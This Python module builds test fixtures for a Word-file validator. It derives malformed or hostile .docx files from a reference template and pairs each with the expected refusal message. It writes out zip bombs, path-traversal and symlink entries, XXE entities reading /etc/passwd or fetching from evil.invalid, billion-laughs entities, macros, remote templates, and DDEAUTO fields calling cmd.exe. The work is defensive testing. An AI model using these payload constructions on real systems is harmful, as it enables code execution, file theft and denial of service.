"""Word files that are hostile or broken, each made from our reference.docx by one change.

`CASES` gives for each name a function that returns the bytes, and words of the line that refuses them.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path

REFERENCE = (Path(__file__).resolve().parent.parent / "templates" / "layout" / "reference.docx").read_bytes()
Parts = dict[str, bytes]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = b"<w:body>"
DOCUMENT, SETTINGS, STYLES, FOOTER = (
    "word/document.xml",
    "word/settings.xml",
    "word/styles.xml",
    "word/footer1.xml",
)
NUMBERING, RELS, TYPES = "word/numbering.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"


@cache
def _parts() -> Mapping[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(REFERENCE))
    return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def changed(**more: bytes) -> Parts:
    return dict(_parts()) | more


def replaced(part: str, old: bytes, new: bytes, parts: Mapping[str, bytes] | None = None) -> Parts:
    """Return the parts with `old` replaced by `new` in one of them; it must be there."""
    found = dict(parts or _parts())
    assert old in found[part], (part, old)
    return found | {part: found[part].replace(old, new, 1)}


def in_body(xml: bytes) -> bytes:
    return packed(replaced(DOCUMENT, BODY, BODY + xml))


def stored(xml: bytes) -> bytes:
    """Return a file that is not compressed: what is repeated a million times is no bomb in it."""
    return packed(replaced(DOCUMENT, BODY, BODY + xml), zipfile.ZIP_STORED)


def in_settings(xml: bytes) -> bytes:
    return packed(replaced(SETTINGS, b"<w:defaultTabStop", xml + b"<w:defaultTabStop"))


def related(kind: str, target: str, external: bool = False, parts: Mapping[str, bytes] | None = None) -> Parts:
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "://" in kind else f"{OFFICE}/{kind}"
    xml = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(RELS, b"</Relationships>", xml.encode(), parts)


def typed(name: str, kind: str, parts: Mapping[str, bytes] | None = None) -> Parts:
    xml = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return replaced(TYPES, b"</Types>", xml.encode(), parts)


def with_part(name: str, data: bytes, kind: str, relation: str) -> bytes:
    parts = typed(name, kind, related(relation, "/" + name))
    return packed(parts | {name: data})


def field(*pieces: str) -> bytes:
    """Return a complex field whose code is split over runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    ends = mark.format("separate") + "<w:r><w:t>1</w:t></w:r>" + mark.format("end")
    return f"<w:p>{mark.format('begin')}{runs}{ends}</w:p>".encode()


def simple(code: str) -> bytes:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'.encode()


def without_style(name: str) -> bytes:
    styles, count = re.subn(
        rb"<w:style [^>]*><w:name w:val=\"" + name.encode() + rb"\"/>.*?</w:style>", b"", _parts()[STYLES]
    )
    assert count == 1, name
    return packed(dict(_parts()) | {STYLES: styles})


# -- packages that are not as Word packs them


def _bomb() -> bytes:
    return packed(dict(_parts()) | {"word/media/a.xml": b" " * 15_000_000})


def _many() -> bytes:
    return packed(dict(_parts()) | {f"customXml/item{number}.xml": b"<a/>" for number in range(400)})


def _lying() -> bytes:
    """Return a file whose directory says that a part of 30 MB is small."""
    data = bytearray(packed(dict(_parts()) | {"word/zeros.xml": b"\0" * 30_000_000}))
    at = data.rindex(b"word/zeros.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(data)


def _overlapping() -> bytes:
    """Return a file in which 200 entries of the directory share the bytes of one part."""
    body = zlib.compress(b"<a>" + b" " * 90_000 + b"</a>")[2:-4]
    crc = zlib.crc32(b"<a>" + b" " * 90_000 + b"</a>")
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(body), 90_007, 5, 0) + b"a.xml" + body
    entries = b""
    for number in range(200):
        name = f"{number:03}.x".encode()
        head = (b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(body), 90_007, 5, 0, 0, 0, 0, 0, 0)
        entries += struct.pack("<4sHHHHHHIIIHHHHHII", *head) + name
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 200, 200, len(entries), len(local), 0)
    return local + entries + end


def _named(name: str) -> bytes:
    """Return a file with a part of a name that a ZIP library would not write."""
    stand_in = "w" * len(name.encode())
    data = packed(dict(_parts()) | {stand_in: b"<a/>"})
    assert data.count(stand_in.encode()) == 2
    return data.replace(stand_in.encode(), name.encode())


def _doubled(name: str) -> bytes:
    buffer = io.BytesIO(REFERENCE)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("zzzz" + name[4:])
        archive.writestr(info, b"<a/>")
    return buffer.getvalue().replace(b"zzzz" + name[4:].encode(), name.encode())


def _flagged() -> bytes:
    data = bytearray(REFERENCE)
    at = data.rindex(b"PK\1\2")
    data[at + 8] |= 1
    return bytes(data)


def _linked() -> bytes:
    buffer = io.BytesIO(REFERENCE)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("word/media/image1.png")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, b"/etc/passwd")
    return buffer.getvalue()


def _squeezed() -> bytes:
    buffer = io.BytesIO(REFERENCE)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/media/image1.png", b"x" * 100)
    return buffer.getvalue()


def _ole(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000 + stream.encode("utf-16-le") + b"\0" * 1000


def _sparse_png() -> bytes:
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + b"\0" * 40


# -- XML


def _doctype(part: str, inside: bytes = b"", root: bytes = b"x") -> bytes:
    xml = _parts()[part]
    head, _, rest = xml.partition(b"?>\n")
    return packed(dict(_parts()) | {part: head + b"?><!DOCTYPE " + root + b" [" + inside + b"]>" + rest})


_LAUGHS = b'<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + level, (b"&%c;" % (97 + level)) * 10) for level in range(12)
)


def _as(encoding: str) -> bytes:
    text = _parts()[DOCUMENT].decode().replace("UTF-8", encoding)
    return packed(dict(_parts()) | {DOCUMENT: text.encode(encoding)})


def _utf16_doctype() -> bytes:
    text = _parts()[DOCUMENT].decode().replace("UTF-8", "UTF-16").replace("?>\n", '?><!DOCTYPE x [<!ENTITY a "b">]>')
    return packed(dict(_parts()) | {DOCUMENT: text.encode("utf-16")})


def _strict() -> bytes:
    parts = {
        name: data.replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http://purl.oclc.org/ooxml/wordprocessingml/main")
        .replace(OFFICE.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")
        for name, data in _parts().items()
    }  # fmt: skip
    return packed(parts)


_PICTURE = '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata {}/></v:shape></w:pict></w:r></w:p>'
_BLIP = (
    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId99"/>'
    "</w:drawing></w:r></w:p>"
)
_OLD = b"""<?xml version="1.0"?><?mso-application progid="Word.Document"?>
<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>"""
_FLAT = b"""<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>"""
_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>"""
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_BOUND = (
    b'<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings="xmlns:a=\'urn:hidden\'" w:xpath="/a:price" w:storeItemID="{1}"/>'
    b"</w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"
)

CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    # not a Word file at all
    "empty": (lambda: b"", "empty"),
    "text": (lambda: b"Dear Sir or Madam", "not a Word file"),
    "pdf": (lambda: b"%PDF-1.7\n", "a PDF"),
    "rtf": (lambda: b"{\\rtf1\\ansi Dear}", "an RTF file"),
    "old doc": (lambda: _ole("WordDocument"), "Word 97-2003"),
    "password": (lambda: _ole("EncryptedPackage"), "protected with a password"),
    "word 2003 xml": (lambda: _OLD, "as one XML text"),
    "flat opc": (lambda: _FLAT, "as one XML text"),
    "other zip": (lambda: packed({"readme.txt": b"hello"}), "no Word file"),
    "spreadsheet": (lambda: packed({TYPES: _parts()[TYPES], "_rels/.rels": b"<Relationships/>"}), "text is missing"),
    # damaged or badly packed
    "cut short": (lambda: REFERENCE[: len(REFERENCE) // 2], "damaged or cut short"),
    "end missing": (lambda: REFERENCE[:-10], "damaged or cut short"),
    "bytes changed": (lambda: REFERENCE[:3000] + b"\0" * 300 + REFERENCE[3300:], "damaged or cut short"),
    "too large": (lambda: REFERENCE + b"\0" * 6_000_000, "larger than"),
    "zip bomb": (_bomb, "unpacks to"),
    "many bombs": (lambda: packed(dict(_parts()) | {f"word/media/{n}.xml": b" " * 190_000 for n in range(150)}), "unpacks to"),
    "many parts": (_many, "more than 300 parts"),
    "lying size": (_lying, "damaged or cut short"),
    "overlapping": (_overlapping, "lie over each other"),
    "two of a name": (lambda: _doubled(DOCUMENT), "same name"),
    "two but for case": (lambda: packed(dict(_parts()) | {"word/Document.xml": b"<a/>"}), "same name"),
    "name upwards": (lambda: _named("../../evil.xml"), "leads out"),
    "name inside upwards": (lambda: _named("word/../../evil.xml"), "leads out"),
    "name absolute": (lambda: _named("/etc/cron.d/evil"), "leads out"),
    "name of windows": (lambda: _named("C:\\evil.xml"), "leads out"),
    "name of backslashes": (lambda: _named("..\\..\\evil.xml"), "leads out"),
    "entry encrypted": (_flagged, "encrypted"),
    "entry a link": (_linked, "a link to another file"),
    "lzma": (_squeezed, "compressed in a way"),
    "part missing": (lambda: packed({n: d for n, d in _parts().items() if n != STYLES}), "names a part that is not there"),
    "relation upwards": (lambda: packed(related("image", "../../../../etc/passwd")), "names a part that is not there"),
    # XML
    "not xml": (lambda: packed(changed() | {DOCUMENT: b"<w:document><w:body>"}), "not XML"),
    "not xml in a footer": (lambda: packed(changed() | {FOOTER: b"<a><b></a>"}), "not XML"),
    "doctype": (lambda: _doctype(DOCUMENT), "DOCTYPE"),
    "doctype in settings": (lambda: _doctype(SETTINGS), "DOCTYPE"),
    "doctype in content types": (lambda: _doctype(TYPES), "DOCTYPE"),
    "doctype in relations": (lambda: _doctype(RELS), "DOCTYPE"),
    "entity of a file": (lambda: _doctype(DOCUMENT, b'<!ENTITY a SYSTEM "file:///etc/passwd">'), "DOCTYPE"),
    "entity of a parameter": (lambda: _doctype(STYLES, b'<!ENTITY % a SYSTEM "http://evil.invalid/x.dtd"> %a;'), "DOCTYPE"),
    "billion laughs": (lambda: _doctype(DOCUMENT, _LAUGHS), "DOCTYPE"),
    "utf-16": (lambda: _as("UTF-16"), "not in UTF-8"),
    "utf-16 without a mark": (lambda: _as("UTF-16-LE"), "not in UTF-8"),
    "utf-16 with a doctype": (_utf16_doctype, "not in UTF-8"),
    "latin-1": (lambda: _as("ISO-8859-1"), "not in UTF-8"),
    "deep": (lambda: in_body(b"<w:p>" * 5000 + b"</w:p>" * 5000), "levels deep"),
    "very deep": (lambda: stored(b"<w:tbl>" * 200_000 + b"</w:tbl>" * 200_000), "levels deep"),
    "many elements": (lambda: stored(b"<w:p/>" * 400_000), "more than 250,000 elements"),
    "many elements in parts": (lambda: packed(changed() | {f"customXml/item{n}.xml": b"<a>" + b"<a/>" * 150_000 + b"</a>" for n in range(2)}, zipfile.ZIP_STORED), "more than 250,000 elements"),
    "many attributes": (lambda: in_body(b"<w:p " + b" ".join(b'a%d="1"' % n for n in range(5000)) + b"/>"), "larger than Word makes any"),
    "long attribute": (lambda: stored(b'<w:p w:rsidR="' + b"a1" * 2_000_000 + b'"/>'), "larger than Word makes any"),
    "strict": (_strict, "Strict Open XML"),
    # what runs
    "docm": (lambda: packed(replaced(TYPES, _MAIN_TYPE, _MACRO_TYPE.encode())), "macros"),
    "vba": (lambda: with_part("word/vbaProject.bin", _ole("VBA"), "application/vnd.ms-office.vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "macros"),
    "vba without a type": (lambda: packed(changed() | {"word/vbaProject.bin": _ole("VBA")}), "macros"),
    "macro of a form": (lambda: in_body(b'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r></w:p>'), "macros"),
    "keyboard": (lambda: with_part("word/customizations.xml", b"<a/>", "application/vnd.ms-word.keyMapCustomizations+xml", "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations"), "macros"),
    "dotx": (lambda: packed(replaced(TYPES, b"document.main+xml", b"template.main+xml")), "a Word template"),
    "not a document": (lambda: packed(replaced(TYPES, b"wordprocessingml.document.main+xml", b"presentationml.slide+xml")), "not a Word document"),
    "ole": (lambda: with_part("word/embeddings/oleObject1.bin", _ole("x"), "application/vnd.openxmlformats-officedocument.oleObject", "oleObject"), "embedded object"),
    "ole in the text": (lambda: in_body(b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>'), "embedded object"),
    "embedded workbook": (lambda: with_part("word/embeddings/a.xlsx", b"PK\3\4", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "package"), "embedded object"),
    "activex": (lambda: with_part("word/activeX/activeX1.xml", b"<a/>", "application/vnd.ms-office.activeX+xml", "control"), "ActiveX"),
    "activex in the text": (lambda: in_body(b'<w:p><w:r><w:pict><w:control w:name="a"/></w:pict></w:r></w:p>'), "ActiveX"),
    "program": (lambda: with_part("word/media/setup.exe", b"MZ", "application/x-msdownload", "image"), "no letterhead needs"),
    # what is taken in from elsewhere
    "template": (lambda: packed(related("attachedTemplate", "http://evil.invalid/t.dotm", True)), "attached to a template"),
    "template of a file": (lambda: packed(related("attachedTemplate", "file:///C:/t.dotm", True)), "attached to a template"),
    "template in settings": (lambda: in_settings(b'<w:attachedTemplate r:id="rId1"/>'), "attached to a template"),
    "altchunk": (lambda: with_part("word/afchunk.html", b"<html/>", "text/html", "aFChunk"), "takes in another document"),
    "altchunk in the text": (lambda: in_body(b'<w:altChunk r:id="rId99"/>'), "takes in another document"),
    "subdocument": (lambda: packed(related("subDocument", "other.docx", True)), "subdocuments"),
    "subdocument in the text": (lambda: in_body(b'<w:subDoc r:id="rId99"/>'), "subdocuments"),
    "mail merge": (lambda: in_settings(b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>'), "mail merge"),
    "mail merge source": (lambda: packed(related("mailMergeSource", "file:///C:/clients.xlsx", True)), "mail merge"),
    "web frames": (lambda: packed(related("frame", "http://evil.invalid/", True)), "frames"),
    "remote picture": (lambda: packed(related("image", "http://evil.invalid/pixel.png", True)), "picture of the file lies outside"),
    "picture of a share": (lambda: packed(related("image", "file://evil.invalid/share/pixel.png", True)), "picture of the file lies outside"),
    "linked picture": (lambda: in_body(_BLIP.encode()), "picture of the file lies outside"),
    "remote vml": (lambda: in_body(_PICTURE.format('src="http://evil.invalid/a.png"').encode()), "picture of the file lies outside"),
    "vml of a share": (lambda: in_body(_PICTURE.format('src="\\\\evil\\a.png"').encode()), "picture of the file lies outside"),
    "svg that loads": (lambda: with_part("word/media/a.svg", _SVG % b'<image xlink:href="http://evil.invalid/a.png"/>', "image/svg+xml", "image"), "picture of the file lies outside"),
    "svg with a style": (lambda: with_part("word/media/a.svg", _SVG % b"<style>@import 'http://evil.invalid/a.css';</style>", "image/svg+xml", "image"), "picture of the file lies outside"),
    "svg with a script": (lambda: with_part("word/media/a.svg", _SVG % b"<script>alert(1)</script>", "image/svg+xml", "image"), "takes something in"),
    "saved through xslt": (lambda: packed(related("transform", "http://evil.invalid/a.xsl", True)), "takes something in"),
    "external of another kind": (lambda: packed(related("http://evil.invalid/kind", "http://evil.invalid/", True)), "takes something in"),
    "link to a file": (lambda: packed(related("hyperlink", "file:///C:/Windows/calc.exe", True)), "a link that leads to"),
    "link to a script": (lambda: packed(related("hyperlink", "javascript:alert(1)", True)), "a link that leads to"),
    "huge picture": (lambda: with_part("word/media/a.png", _sparse_png(), "image/png", "image"), "million dots"),
    # fields
    "dde": (lambda: in_body(field("DDE cmd &quot;/c calc&quot;")), "a field DDE"),
    "ddeauto": (lambda: in_body(simple("DDEAUTO c:\\windows\\system32\\cmd.exe")), "a field DDEAUTO"),
    "dde split": (lambda: in_body(field(" D", "D", "EAU", "TO c:\\\\cmd.exe ")), "a field DDEAUTO"),
    "dde in small letters": (lambda: in_body(field(" ddeauto x")), "a field DDEAUTO"),
    "dde in a footer": (lambda: packed(replaced(FOOTER, b"<w:p>", field("DDE a b") + b"<w:p>")), "a field DDE"),
    "dde never ended": (lambda: in_body(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a b</w:instrText></w:r></w:p>'), "a field DDE"),
    "dde without a field": (lambda: in_body(b"<w:p><w:r><w:instrText>DDE a b</w:instrText></w:r></w:p>"), "a field DDE"),
    "includetext": (lambda: in_body(field("INCLUDETEXT &quot;C:\\\\secret.txt&quot;")), "a field INCLUDETEXT"),
    "includepicture": (lambda: in_body(simple("INCLUDEPICTURE &quot;http://evil.invalid/a.png&quot; \\d")), "a field INCLUDEPICTURE"),
    "link field": (lambda: in_body(simple("LINK Excel.Sheet.8 &quot;C:\\a.xls&quot;")), "a field LINK"),
    "import": (lambda: in_body(simple("IMPORT a.png")), "a field IMPORT"),
    "macrobutton": (lambda: in_body(simple("MACROBUTTON Evil click")), "a field MACROBUTTON"),
    "database": (lambda: in_body(simple("DATABASE \\d &quot;C:\\a.mdb&quot;")), "a field DATABASE"),
    "quote": (lambda: in_body(simple("QUOTE 68 68 69")), "a field QUOTE"),
    "date": (lambda: in_body(simple("DATE")), "a field DATE"),
    "field in a field": (lambda: in_body(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText></w:r></w:p>' + field("REF a")), "built out of another field"),
    "hyperlink field": (lambda: in_body(simple("HYPERLINK &quot;file:///C:/calc.exe&quot;")), "a link that leads to"),
    # what would go on into documents
    "hidden data": (lambda: in_body(_BOUND), "data hidden in it"),
    "tracked changes": (lambda: in_body(b'<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'), "tracked changes"),
    "tracking on": (lambda: in_settings(b"<w:trackRevisions/>"), "tracked changes"),
    "comments": (lambda: with_part("word/comments.xml", b"<a/>", "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml", "comments"), "comments"),
    # unfit
    "no styles": (lambda: packed({n: re.sub(rb'<(Relationship|Override) [^>]*styles[^>]*>', b"", d) for n, d in _parts().items() if n != STYLES}), "no styles"),
    "no body": (lambda: packed(changed() | {DOCUMENT: re.sub(rb"<w:body>.*</w:body>", b"", _parts()[DOCUMENT])}), "text is missing"),
    "style missing": (lambda: without_style("Clause Heading"), '"Clause Heading" is missing'),
    "footer style missing": (lambda: without_style("footer"), '"footer" is missing'),
    "chart style missing": (lambda: without_style("Chart Key AR"), '"Chart Key AR" is missing'),
    "style renamed": (lambda: packed(replaced(STYLES, b'<w:name w:val="Clause Text"/>', b'<w:name w:val="Clause Txt"/>')), '"Clause Text" is missing'),
    "style of another kind": (lambda: packed(replaced(STYLES, b'<w:style w:type="character" w:customStyle="1" w:styleId="ShortName">', b'<w:style w:type="paragraph" w:customStyle="1" w:styleId="ShortName">')), '"Short Name" is a paragraph style'),
    "no lists": (lambda: packed({n: re.sub(rb'<(Relationship|Override) [^>]*numbering[^>]*>', b"", d) for n, d in _parts().items() if n != NUMBERING}), "list that numbers the clauses is missing"),
    "clause in no list": (lambda: packed(replaced(STYLES, b'<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>', b"")), '"Clause" belongs to no list'),
    "list gone": (lambda: packed(replaced(NUMBERING, b'<w:num w:numId="1">', b'<w:num w:numId="7">')), 'list of the clauses is missing'),
    "list not linked": (lambda: packed(replaced(NUMBERING, b'<w:pStyle w:val="Clause"/>', b"")), 'the style "Clause" is broken'),
    "second level not linked": (lambda: packed(replaced(NUMBERING, b'<w:pStyle w:val="ClauseItem"/>', b"")), 'the style "Clause Item" is broken'),
    "second level elsewhere": (lambda: packed(replaced(STYLES, b'<w:ilvl w:val="1"/><w:numId w:val="1"/>', b'<w:ilvl w:val="1"/><w:numId w:val="3"/>', replaced(NUMBERING, b'<w:num w:numId="2">', b'<w:num w:numId="3"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2">'))), "list of the clauses is broken"),
    "roman clauses": (lambda: packed(replaced(NUMBERING, b'<w:numFmt w:val="decimal"/>', b'<w:numFmt w:val="upperRoman"/>')), "not numbered 1, 2, 3"),
    "clauses from 5": (lambda: packed(replaced(NUMBERING, b'<w:start w:val="1"/>', b'<w:start w:val="5"/>')), "do not start at 1"),
    "items without letters": (lambda: packed(replaced(NUMBERING, b'<w:numFmt w:val="lowerLetter"/>', b'<w:numFmt w:val="bullet"/>')), "has no letters"),
    "tag in the footer": (lambda: packed(replaced(FOOTER, b"{{ footer }}", b"{{ footer }} {{ title }}")), "the footer has a tag"),
    "two columns": (lambda: packed(replaced(DOCUMENT, b'<w:cols w:space="280"/>', b'<w:cols w:num="2" w:space="280"/>')), "column layout was changed"),
    "landscape": (lambda: packed(replaced(DOCUMENT, b'w:w="12240" w:h="15840"', b'w:w="15840" w:h="12240" w:orient="landscape"')), "lies on its side"),
    "no page": (lambda: packed(changed() | {DOCUMENT: re.sub(rb"<w:sectPr>.*</w:sectPr>", b"", _parts()[DOCUMENT])}), "says nothing of its page"),
    "two sections": (lambda: in_body(b'<w:p><w:pPr><w:sectPr><w:pgSz w:w="12240" w:h="15840"/></w:sectPr></w:pPr></w:p>'), "2 sections"),
    "no room at the sides": (lambda: packed(replaced(DOCUMENT, b'w:left="864"', b'w:left="5400"')), "left and right are"),
    "no room above": (lambda: packed(replaced(DOCUMENT, b'w:top="720"', b'w:top="9000"')), "top and bottom are"),
}  # fmt: skip
